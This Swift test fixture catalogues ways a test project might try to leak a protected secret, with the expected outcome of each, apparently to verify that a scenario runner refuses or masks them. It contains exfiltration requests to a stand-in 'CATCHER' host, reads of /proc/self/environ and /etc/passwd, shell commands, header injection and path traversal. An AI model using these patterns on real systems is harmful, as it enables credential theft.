/// One way in which a project could try to read a secret that it may use and not know, or one that it may not use at all.
struct SecretAttempt: Sendable {
  /// The result, from the event log.
  enum Ending: String, Sendable {
    /// Nothing runs.
    case refused
    case broken, failed, passed
  }

  let way: String
  let ending: Ending
  /// What the project knows afterwards, for people to read.
  var gets = "nothing"
  /// A scenario, of which the title is left out. Places of the two servers are written `TENANT` and `CATCHER`.
  var scenario = "steps:\n  - screen: identification\n    messages: none\n"
  /// The whole tenants.yaml, if it is not the default one.
  var tenants: String?
  /// Further files, by their paths in the project; one that begins with `->` is a link.
  var files: [String: String] = [:]

  /// The keys of the default tenant.
  static let usual = """
        dialect: journey-flow
        issuer: TENANT
        client: {id: acme-web, redirect_uri: "https://app.acme.test/callback", scopes: [openid]}

    """

  /// With lines more in the entry of the usual tenant.
  static func tenant(_ way: String, _ more: String, scenario: String? = nil, after: String = "") -> SecretAttempt {
    var attempt = SecretAttempt(way: way, ending: .refused)
    attempt.tenants = "tenants:\n  acme:\n\(usual)    \(more)\n\(after)"
    if let scenario { attempt.scenario = scenario }
    return attempt
  }

  static func steps(_ way: String, _ ending: Ending, gets: String = "nothing", _ lines: String...) -> SecretAttempt {
    SecretAttempt(way: way, ending: ending, gets: gets, scenario: "steps:\n" + lines.map { "  \($0)\n" }.joined())
  }

  /// Types the secret into a form whose response repeats it, and looks at that.
  static func shown(_ way: String, _ ending: Ending, gets: String = "nothing", _ lines: String...) -> SecretAttempt {
    let typed = "steps:\n  - screen: identification\n    answers: {identifier: \"${secret.TARGET}\"}\n"
    return SecretAttempt(way: way, ending: ending, gets: gets, scenario: typed + lines.map { "  \($0)\n" }.joined())
  }

  /// The tenant's text after the secret was typed, captured with additions of a closure.
  static func captured(_ way: String, _ ending: Ending, gets: String = "nothing", _ capture: String, _ lines: String...) -> SecretAttempt {
    let typed = "steps:\n  - screen: identification\n    answers: {identifier: \"${secret.TARGET}\"}\n"
    let taken = "  - screen: identification\n    messages: any\n    capture: {v: \(capture)}\n"
    return SecretAttempt(way: way, ending: ending, gets: gets, scenario: typed + taken + lines.map { "  \($0)\n" }.joined())
  }
}

/// What is refused before anything runs, in a scenario.
extension SecretAttempt {
  static let inScenarios: [SecretAttempt] = [
    .steps("a request to another host, with the secret in the address", .refused, "- request: GET CATCHER/?a=${secret.TARGET}"),
    .steps(
      "a request to another host, with the secret in a header", .refused, "- request: GET CATCHER/",
      "  headers: {X-Key: \"${secret.TARGET}\"}"),
    .steps(
      "a request to another host, with the secret in the body", .refused, "- request: POST CATCHER/", "  json: {a: \"${secret.TARGET}\"}"),
    .steps("a request to a host that begins as the tenant's", .refused, "- request: GET http://127.0.0.1.evil.test/?a=${secret.TARGET}"),
    .steps("a request that names the tenant as a user", .refused, "- request: GET http://acme:x@CATCHERHOST/?a=${secret.TARGET}"),
    .steps("a secret that the policy does not name", .refused, "- screen: identification", "  answers: {identifier: \"${secret.OTHER}\"}"),
    .steps(
      "a secret that the policy does not name, with a default", .refused, "- screen: identification",
      "  answers: {identifier: \"${secret.OTHER, 'x'}\"}"),
    .steps(
      "a variable that the policy does not name", .refused, "- screen: identification",
      "  answers: {identifier: \"${env.GITHUB_TOKEN}\"}"),
    .steps("the secret as a variable", .refused, "- screen: identification", "  answers: {identifier: \"${env.TARGET}\"}"),
    .steps("the secret as an argument", .refused, "- run: [echo, \"EMAIL=${secret.TARGET}\"]"),
    SecretAttempt(
      way: "the secret as an argument, by way of a variable", ending: .refused,
      scenario: "vars: {a: \"${secret.TARGET}\", b: \"x${a}\"}\nsteps:\n  - run: [echo, \"EMAIL=${b}\"]\n"),
    .steps("a digest of the secret as an argument", .refused, "- run: [echo, \"EMAIL=${sha256(secret.TARGET)}\"]"),
    .steps("a command that the policy does not name", .refused, "- run: [env]"),
    .steps("a shell", .refused, "- run: [sh, -c, \"echo $SEED_KEY\"]"),
    .steps("a command's argument that a shell or make would carry out", .refused, "- run: [echo, \"EMAIL=$(shell env)\"]"),
    .steps("a file of secrets as an argument", .refused, "- run: [cat, /proc/self/environ]"),
    .steps("a way out of the folder as an argument", .refused, "- run: [cat, a/../../outside]"),
    .steps("an option as an argument", .refused, "- run: [cat, --help]"),
    SecretAttempt(
      way: "the secret in the title", ending: .refused, scenario: "TITLE ${secret.TARGET}\nsteps:\n  - screen: identification\n"),
    .steps("the secret in a pattern", .refused, "- screen: {matches: \"${secret.TARGET}\"}"),
    .steps(
      "the beginning of the secret", .refused, "- screen: identification", "  messages: {identifier: {starts_with: \"${secret.TARGET}\"}}"),
    .steps("a branch that asks how the secret begins", .refused, "- when: {secret.TARGET: {starts_with: Z}}", "  screen: identification"),
    .steps("the secret as a snapshot's name", .refused, "- screen: identification", "  snapshot: \"${secret.TARGET}\""),
    .steps("an attack on the tenant that the policy does not allow", .refused, "- finish:", "  probes: [code_replay]"),
    .steps("a file of the machine as a fragment", .refused, "- use: /etc/passwd"),
    .steps("a file above the project as a fragment", .refused, "- use: ../../policy.yaml"),
    SecretAttempt(
      way: "the environment of the process as rows", ending: .refused,
      scenario: "examples: {csv: /proc/self/environ}\nsteps:\n  - screen: identification\n"),
  ]
}

/// What is refused before anything runs, in tenants.yaml and among the files.
extension SecretAttempt {
  static let inTenants: [SecretAttempt] = [
    .tenant("another issuer", "rate: 50/s").replacingIssuer(with: "CATCHER"),
    .tenant("an issuer that names the tenant as a user", "rate: 50/s").replacingIssuer(with: "http://TENANTHOST@CATCHERHOST"),
    .tenant("an issuer from a variable", "rate: 50/s").replacingIssuer(with: "${env.GITHUB_TOKEN}"),
    .tenant(
      "a tenant like the named one with another issuer", "rate: 50/s", after: "  evil: {like: acme, issuer: \"CATCHER\"}\ndefault: evil\n"),
    .tenant(
      "a tenant that is called a mock elsewhere", "rate: 50/s",
      after: "  evil: {dialect: journey-flow, mock: {at: \"CATCHER\"}, client: {id: a, redirect_uri: \"https://a.test/\"}}\ndefault: evil\n"
    ),
    .tenant("a proxy", "proxy: CATCHER"),
    .tenant("a proxy that gets the secret", "proxy: http://CATCHERHOST/${secret.TARGET}"),
    .tenant("the secret as the host of a proxy", "proxy: \"http://${secret.TARGET}:3128\""),
    .tenant("a proxy whose address is cut inside the secret", "proxy: \"http://ci:${secret.TARGET}@127.0.0.1:3128\""),
    .tenant("an inbox elsewhere that is shown the secret", "inbox: {http: {url: \"CATCHER\", token: \"${secret.TARGET}\"}}"),
    .tenant("a command as inbox", "inbox: {command: [env]}"),
    .tenant("a command as device", "device: {command: [env]}"),
    .tenant("certificates that are not checked", "tls: {verify: false}"),
    .tenant("a file of the machine as certificates", "tls: {ca: /etc/passwd}"),
    .tenant("the secret in the client's id", "rate: 50/s").replacing("id: acme-web", with: "id: \"${secret.TARGET}\""),
    .tenant("a secret that the policy does not name, in a header", "headers: {X-Key: \"${secret.OTHER}\"}"),
    .tenant(
      "a further host for requests", "rate: 50/s", scenario: "steps:\n  - request: GET CATCHER/?a=${secret.TARGET}\n",
      after: "allow: {hosts: [\"CATCHER\"]}\n"),
    SecretAttempt(
      way: "a link to a file outside as scenario", ending: .refused, files: ["journeys/link.yaml": "->/etc/hostname"]),
  ]

  private func replacingIssuer(with issuer: String) -> SecretAttempt { replacing("issuer: TENANT", with: "issuer: \"\(issuer)\"") }

  private func replacing(_ old: String, with new: String) -> SecretAttempt {
    var attempt = self
    attempt.tenants = tenants?.replacing(old, with: new)
    return attempt
  }
}

/// What runs, on a tenant that repeats what is typed.
extension SecretAttempt {
  static let walked: [SecretAttempt] = [
    .captured("capturing what the tenant shows again", .failed, gets: "`***`", "{message: identifier}", "- check: {v: zzz}"),
    .captured(
      "capturing a piece of it by a pattern", .failed, gets: "nothing: patterns see `***`",
      "{message: identifier, matches: 'Hello (.{1,4})'}", "- check: {v: zzz}"),
    .captured(
      "a pattern that fits by the first letter only", .failed, gets: "nothing: patterns see `***`",
      "{message: identifier, matches: 'Hello (Z.*)'}", "- check: {v: present}"),
    .captured(
      "a pattern for its length", .failed, gets: "nothing: patterns see `***`", "{message: identifier, matches: '^Hello .{25}$'}",
      "- check: {v: present}"),
    .captured("writing it in lower case", .failed, gets: "`***`", "{message: identifier}", "- check: {v: \"${lower(v)}\"}"),
    .captured(
      "showing it again in lower case, and cutting that", .failed, gets: "nothing: patterns see `***`", "{message: identifier}",
      "- screen: identification", "  messages: any", "  answers: {identifier: \"${lower(v)}\"}", "- screen: identification",
      "  messages: any", "  capture: {w: {message: identifier, matches: 'Hello hello ?(z.*)'}}"),
    .captured(
      "a tenant that repeats it in groups and in capitals", .failed, gets: "`***`", "{message: identifier}", "- screen: identification",
      "  messages: any", "  answers: {identifier: \"grouped:${secret.TARGET}\"}", "- screen: identification", "  messages: any",
      "  capture: {w: {message: identifier}}", "- check: {w: zzz}"),
    .captured("its digest", .failed, gets: "`***`", "{message: identifier}", "- check: {v: \"${sha256(v)}\"}"),
    .captured(
      "how it begins", .failed, gets: "nothing: it cannot be judged", "{message: identifier}", "- check: {v: {starts_with: Hello Z}}"),
    .captured(
      "how it does not begin", .failed, gets: "nothing: it cannot be judged", "{message: identifier}",
      "- check: {v: {not: {starts_with: Hello Z}}}"),
    .captured("how long it is", .failed, gets: "nothing: it cannot be judged", "{message: identifier}", "- check: {v: {length: 31}}"),
    .captured(
      "a branch by how it begins", .failed, gets: "nothing: it cannot be judged", "{message: identifier}",
      "- when: {v: {contains: Zq}}", "  screen: identification"),
    .captured(
      "a guess of the whole secret", .failed, gets: "one bit: whether the guess is right", "{message: identifier}",
      "- check: {v: Hello wrong-guess-0001}"),
    .shown(
      "a text that is compared and cut", .failed, gets: "`***`", "- screen: identification",
      "  messages: {identifier: \"Hello ten days and ten nights, and as many more as it takes to be told.\"}"),
    .shown("a snapshot", .passed, gets: "`***`, also in the file", "- screen: identification", "  messages: any", "  snapshot: shown"),
    .steps("the secret as the screen that is expected", .failed, gets: "`***`", "- screen: \"${secret.TARGET}\""),
    .steps(
      "the secret as a button", .failed, gets: "`***`", "- screen: identification", "  press: \"${secret.TARGET}\""),
    .steps("a host from a variable", .broken, "- request: GET ${vars_host}/?a=${secret.TARGET}").settingHost,
    .steps("a line break in a header", .broken, "- request: GET /x", "  headers: {X-Trace: \"a\\r\\nHost: CATCHERHOST\"}"),
    .steps("the secret as an address that is opened", .broken, "- screen: identification", "- open: \"CATCHER/${secret.TARGET}\""),
    .cut("typing it with a space after it", "${secret.TARGET} "),
    .cut("typing it in lower case with a space after it", "${lower(secret.TARGET)} "),
    .cut("typing it after a word that the tenant drops", "plain:${secret.TARGET}"),
    .steps(
      "a snapshot of text typed after such a word", .passed, gets: "`***`, also in the file", "- screen: identification",
      "  answers: {identifier: \"plain:${secret.TARGET}\"}", "- screen: identification", "  messages: any", "  snapshot: other"),
    .steps(
      "typing it into a field that is not for passwords and that the policy does not name", .broken, "- screen: identification",
      "  force: true", "  answers: {nickname: \"x${secret.TARGET}\"}"),
    .steps("the secret as a host", .broken, "- request: \"GET https://${secret.TARGET}/\""),
    .steps("the secret as a port", .broken, "- request: \"GET http://127.0.0.1:${secret.TARGET}/\""),
    .steps("the secret as the host of a link", .broken, "- screen: identification", "- open: \"https://${secret.TARGET}/x\""),
    .steps(
      "what a command of the policy prints of its key", .failed, gets: "`***`", "- run: [printenv, SEED_KEY]", "  capture: {v: output}",
      "- check: {v: zzz}"),
    .steps("what a command of the policy prints as an error", .failed, gets: "`***`", "- run: [sh, -c, \"echo $SEED_KEY >&2; exit 4\"]"),
    SecretAttempt(
      way: "a mock of the project's own, whose screens tell what was typed", ending: .failed, gets: "a placeholder value",
      scenario: "tenant: evil\nsteps:\n  - screen: ask\n    answers: {secret: \"${secret.TARGET}\"}\n  - screen: first\n"),
  ]

  /// Types the secret as a part of a text, of which the tenant drops the rest, and cuts what it shows again.
  private static func cut(_ way: String, _ typed: String) -> SecretAttempt {
    .steps(
      way, .failed, gets: "nothing: patterns see `***`", "- screen: identification", "  answers: {identifier: \"\(typed)\"}",
      "- screen: identification", "  messages: any", "  capture: {v: {message: identifier, matches: 'Hello ([zZ].{8})'}}",
      "- check: {v: zzz}")
  }

  private var settingHost: SecretAttempt {
    var attempt = self
    attempt.scenario = "vars: {vars_host: \"CATCHER\"}\n" + scenario
    return attempt
  }
}
